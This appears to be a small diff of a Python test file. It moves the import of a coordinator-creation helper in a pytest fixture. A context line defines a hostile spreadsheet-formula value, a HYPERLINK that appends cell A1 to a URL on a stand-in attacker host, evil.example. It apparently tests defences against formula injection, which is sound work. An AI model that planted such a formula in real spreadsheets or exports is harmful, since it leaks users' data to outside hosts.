@@ -18,7 +18,7 @@ HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'
 
 @pytest.fixture
 def coordinator(client, session, monkeypatch):
-    from web.services.coordinators import create_coordinator
+    from web.services.accounts import create_coordinator
 
     monkeypatch.setattr(auth, "utcnow", lambda: NOW)
     create_coordinator(session, NOW, "claire@villiers.example", PASSWORD, name="Claire")
